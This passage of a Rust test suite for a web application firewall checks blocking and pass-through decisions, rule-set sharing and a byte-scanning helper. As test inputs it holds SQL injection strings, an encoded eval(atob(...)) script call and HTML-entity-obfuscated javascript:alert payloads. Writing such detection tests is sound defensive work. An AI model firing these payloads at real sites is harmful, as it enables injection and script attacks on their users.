    let body = format!(r#"{{"items":[{{"q":"blue"}},{{"q":"{attack}"}}]}}"#);
    let f = post(&w, "application/json", &body).unwrap();
    assert!(f.hits.iter().any(|h| h.rule_id == rules::SQLI.id));
    // Repetition alone never adds to the score of a benign document.
    let items = vec![r#"{"sku":"A-1","note":"ring twice"}"#; 40].join(",");
    let f = post(&w, "application/json", &format!(r#"{{"items":[{items}]}}"#)).unwrap();
    assert_eq!(f.score, 0, "{}", f.summary());
}

#[test]
fn a_path_that_only_names_a_script_function_passes() {
    let w = waf();
    assert!(get(&w, "/wiki/eval(").is_ok());
    assert!(get(&w, "/wiki/eval(atob('YWxlcnQoMSk='))").is_err());
}

#[test]
fn routes_with_the_same_level_share_one_compiled_rule_set() {
    let a = Waf::from_spec(&WafSpec::default()).unwrap();
    let b = Waf::from_spec(&WafSpec {
        mode: WafMode::Detect,
        ..WafSpec::default()
    })
    .unwrap();
    assert!(Arc::ptr_eq(&a.values, &b.values));
    assert!(Arc::ptr_eq(&a.paths, &b.paths));
    assert!(Arc::ptr_eq(&a.names, &b.names));
    assert!(Arc::ptr_eq(&a.scanners, &b.scanners));
    let stricter = Waf::from_spec(&WafSpec {
        paranoia: WafSpec::default().paranoia + 1,
        ..WafSpec::default()
    })
    .unwrap();
    assert!(!Arc::ptr_eq(&a.values, &stricter.values));
    // Sharing changes nothing in what a route decides.
    let h = headers(&[]);
    assert!(a.check_head(&view("GET", "/?q=1'+OR+1=1--", &h)).is_err());
    assert!(stricter
        .check_head(&view("GET", "/?q=1'+OR+1=1--", &h))
        .is_err());
}

#[test]
fn reassembles_values_that_an_ampersand_split() {
    let w = waf();
    // `&` inside a value turns the rest into parameter names; the query is read whole too.
    blocked(
        get(&w, "/p?q=%3Cimg%20src=&%23106;&%2397;vascript:alert(7)%3E"),
        "210001",
    );
    blocked(get(&w, "/p?q=k%27%20&&%20%27m"), "200001");
    blocked(
        post(
            &w,
            "application/x-www-form-urlencoded",
            "q=<a href=javascript&colon;alert&lpar;2&rpar;>x</a>",
        ),
        "210001",
    );
    // Flags without values are ordinary.
    assert!(get(&w, "/p?a=1&debug&b=it%27s&verbose").is_ok());
    assert!(post(
        &w,
        "application/x-www-form-urlencoded",
        "a=1&debug&b=Tom+%26+Jerry"
    )
    .is_ok());
}

#[test]
fn bytes_present_agrees_with_contains_for_every_gated_byte() {
    let bits = [
        ('\0', has::NUL),
        ('%', has::PERCENT),
        ('\\', has::BACKSLASH),
        ('$', has::DOLLAR),
        ('^', has::CARET),
        ('\'', has::QUOTE),
        ('"', has::DQUOTE),
        ('{', has::LBRACE),
        ('(', has::LPAREN),
        (')', has::RPAREN),
        ('[', has::LBRACKET),
        ('.', has::DOT),
        (':', has::COLON),
    ];
    for s in [
        "",
        "plain words 123",
        "a\0b",
        "100%",
        "c:\\x",
        "$x^'\"{}()[].:",
        "caf\u{e9} (\u{ff58})",
        "\u{65e5}\u{672c}.\u{8a9e}",
    ] {
        let m = bytes_present(s);
        for (c, bit) in bits {
            assert_eq!(m & bit != 0, s.contains(c), "{s:?} {c:?}");
        }
    }
}
